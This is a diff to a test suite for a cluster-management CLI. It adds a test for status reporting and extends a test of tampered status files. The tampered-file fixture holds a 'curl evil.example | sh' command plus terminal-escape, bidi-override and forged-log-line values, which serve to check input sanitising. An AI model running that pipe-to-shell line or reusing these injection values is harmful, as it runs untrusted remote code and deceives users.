@@ -93,6 +93,51 @@ describe('status', () => {
     });
   });
 
+  it('tells what the cluster says of itself', async () => {
+    await world.cli(['create', 'demo', '--idle-timeout', '2h', '--wait']);
+    world.setRunning(false);
+    const forge = (report: object) => {
+      const found = JSON.parse(readFileSync(join(world.home, 'demo.cf-status'), 'utf8'));
+      write('demo.cf-status', JSON.stringify({ ...found, report, simulated: false }));
+    };
+    const savedAt = new Date(world.clock.now()).toISOString();
+    forge({
+      nodes: { most: 4, up: 2, coming: 1, working: 1, leaving: 0, down: 0 },
+      jobs: { running: 1, waiting: 3 },
+      sessions: 0,
+      disk: { usedGb: 1.2, totalGb: 16 },
+      notices: ['node-3 does not come: no memory left', 'the script of all failed'],
+      files: { savedAt, count: 12, bytes: 3456, trouble: 'no room is left' },
+      idleSince: new Date(world.clock.now() - 30 * 60_000).toISOString(),
+    });
+    const shown = async () =>
+      steady((await world.cli(['status', 'demo'])).out)
+        .replace(/in 1 hour \d+ minutes/g, 'in <span>')
+        .split('\n')
+        .filter((line) => /^ {2}(?:silent|nodes|jobs|logins|disk|files|idle|notice)/.test(line));
+    expect(await shown()).toMatchInlineSnapshot(`
+      [
+        "  nodes     2 of 4 up, 1 on its way, 1 working",
+        "  jobs      1 running, 3 waiting",
+        "  logins    nobody is logged in",
+        "  disk      1.2 of 16 GB used",
+        "  files     ~/files was saved <date>, 12 files, 3.5 kB. It cannot be saved now: no room is left",
+        "  idle      nobody has used it since <date>; if that goes on, it ends on <date>, in <span>",
+        "  notice    node-3 does not come: no memory left",
+        "  notice    the script of all failed",
+      ]
+    `);
+    expect(columns((await world.cli(['list'])).out)).toContain('demo  running, 2 notices  2 of 4  ');
+    forge({ silentSince: savedAt, notices: [], files: { count: 0 } });
+    expect(await shown()).toMatchInlineSnapshot(`
+      [
+        "  silent    the cluster has not reported since <date>",
+        "  files     ~/files has not been saved yet",
+      ]
+    `);
+    expect(columns((await world.cli(['list'])).out)).toContain('demo  running, silent  ');
+  });
+
   it('does not take the status of an earlier drop for the answer to a later one', async () => {
     await world.cli(['create', 'demo', '--wait']);
     world.setRunning(false);
@@ -163,6 +208,7 @@ describe('a status file that somebody else wrote', () => {
         next: `\u202egnihton${ESCAPE}`,
         address: `1.2.3.4${ESCAPE}`,
         ssh: { command: 'curl evil.example | sh', hostKey: null },
+        report: { notices: [ESCAPE, `fine\nclusterdrop: all is well`], files: { trouble: ESCAPE } },
         settings: { ...status.settings, ComputeMaxNodes: `${ESCAPE}4` },
         problems: [{ code: 'x', owner: 'author', message: ESCAPE, fix: ESCAPE }],
       }),
